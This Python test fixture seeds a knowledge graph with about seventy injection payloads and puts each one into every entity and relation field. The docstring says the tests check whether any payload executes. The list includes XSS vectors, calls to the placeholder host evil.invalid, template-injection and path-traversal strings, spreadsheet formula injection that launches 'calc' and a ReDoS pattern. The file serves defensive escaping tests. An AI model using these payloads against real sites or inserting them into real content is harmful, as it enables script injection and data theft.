"""Texts that try to run, to load, to break out or to hide; each is put into every field of a graph.

A payload that gets its way calls ``alert``, sets ``window.ran``, asks for ``evil.invalid`` or leaves
an element of its own: the tests look for all four.
"""

from __future__ import annotations

from functools import cache

from kg.graph.knowledge import KnowledgeGraph
from kg.model import Entity, Reading
from kg.ontology import INITIATIVE, ORGANISATION, PERSON, PLACE
from tests.view.stories import Fact, Named, say, tell

_RUN = "window.ran=1;alert(1)"
TITLE = f'</title><script>{_RUN}</script><img src=x onerror="{_RUN}">'

PAYLOADS: tuple[str, ...] = (
    # elements that run or load
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</SCRIPT ><ScRiPt>{_RUN}</sCrIpT>",
    f"</script\t><svg/onload={_RUN}>",
    f"<script nonce=''>{_RUN}</script>",
    '<script src="https://evil.invalid/x.js"></script>',
    f"<img src=x onerror={_RUN}>",
    f'<img src="https://evil.invalid/p.png" onload="{_RUN}">',
    f"<svg onload={_RUN}><title>href</title></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>点</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<iframe src=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}></object><embed src=//evil.invalid/x.swf>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<body onload={_RUN} onhashchange={_RUN}>",
    f"<marquee onstart={_RUN}>走</marquee>",
    # head elements
    '<base href="https://evil.invalid/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    '<link rel="stylesheet" href="https://evil.invalid/x.css">',
    f"<form action=javascript:{_RUN}><button autofocus>交</button></form>",
    # breaking out of attributes, comments and data
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"` onclick=`{_RUN}`",
    f"--><script>{_RUN}</script><!--",
    f"<!--<script>{_RUN}//",
    f"]]><script>{_RUN}</script><![CDATA[",
    f'"}}]}}</script><script>{_RUN}</script>',
    f'\\"}};{_RUN};//',
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;img src=x onerror={_RUN}&#62;",
    # addresses
    f"javascript:{_RUN}",
    f"JaVaScRiPt\n:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "https://evil.invalid/?a=1#b",
    "//evil.invalid/x",
    "../../../../etc/passwd",
    # templates
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% include 'lib/vis-9.1.2/vis-network.min.js' %}",
    f"${{{_RUN}}}",
    f"#{{{_RUN}}}<%= {_RUN} %>",
    # style
    "</style><style>*{display:none!important}</style>",
    "url(https://evil.invalid/x.png)",
    ";background:url(//evil.invalid/x);position:fixed;inset:0",
    "red;}</style><body style='background:red'>",
    # names that JavaScript knows
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "then",
    "0",
    # signs that hide, turn or break
    f"行\u2028{_RUN}\u2029行",
    f"零\u0000字\u0000<script>{_RUN}</script>",
    "右\u202e左\u2066隔\u2069完\u202c",
    "零\u200b宽\u200d连\ufeff头\u00ad软",
    "半\ud800对\udfff半",
    "\x1b[31m红\x07铃\x08退",
    "换\r\n行\t表\x0b竖",
    "很" * 3000,
    "Z̸͙̾ͅa̷͎͝l̶̰͑g̵̣͌o̴̪͐" * 20,
    "👨‍👩‍👧‍👦🇨🇳🏴‍☠️𠮷𠀀",
    # tables and patterns
    '=HYPERLINK("https://evil.invalid","点")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    '一,二"三\n四;五\t六',
    ".*+?^${}()|[]\\",
    "(a+)+$",
    "%3Cscript%3E%E0%A4%A",
)


def _entities(n: int, payload: str) -> list[Entity]:
    own = f"{payload}{n}" if payload else str(n)
    return [
        Entity(payload, PERSON, payload, None, (own,), None, own, payload, 0.9, payload),
        Entity(f"Organisation:{own}", ORGANISATION, payload, payload, (own, f"{own}别"), payload, own, payload, 0.9, payload),
        Entity(f"Initiative:{own}", INITIATIVE, own, payload, (payload,), payload, own, payload, 0.9, payload),
        Entity(f"Place:{own}", PLACE, payload, payload, (own,), payload, own, payload, 0.9, payload),
    ]  # fmt: skip


@cache
def readings() -> tuple[Reading, ...]:
    """Write a reading for each payload, with the payload in every field; a chain links them all."""
    made = []
    for n, payload in enumerate(PAYLOADS):
        following = PAYLOADS[(n + 1) % len(PAYLOADS)]
        person, organ, initiative, place = _entities(n, payload)
        other = _entities((n + 1) % len(PAYLOADS), following)
        words = dict.fromkeys(("title", "verb", "role", "basis"), payload)

        def fact(subject: Entity, relation: str, object: Entity | None, words: dict = words, by: str = payload) -> Fact:
            return Fact(subject.id, relation, object.id if object else None, words, 0.9, by)

        sentence = say(
            payload, Named(organ.id, payload), "推出", Named(initiative.id, payload), payload,
            facts=[
                fact(person, "HEADS", organ), fact(person, "SERVES_IN", other[1]), fact(organ, "RUNS", initiative),
                fact(organ, "TAKES_PART_IN", other[2]), fact(initiative, "LOCATED_IN", place),
                fact(organ, "PART_OF", other[1]), fact(place, "LOCATED_IN", other[3]), fact(person, "WROTE", None),
            ],
        )  # fmt: skip
        known = {entity.id: entity for entity in (person, organ, initiative, place, *other)}
        made.append(tell(payload, payload, payload, payload, [sentence, say(payload)], known, id=f"{payload}#{n}"))
    return tuple(made)


@cache
def graph() -> KnowledgeGraph:
    """Merge the readings."""
    return KnowledgeGraph.from_readings(readings())
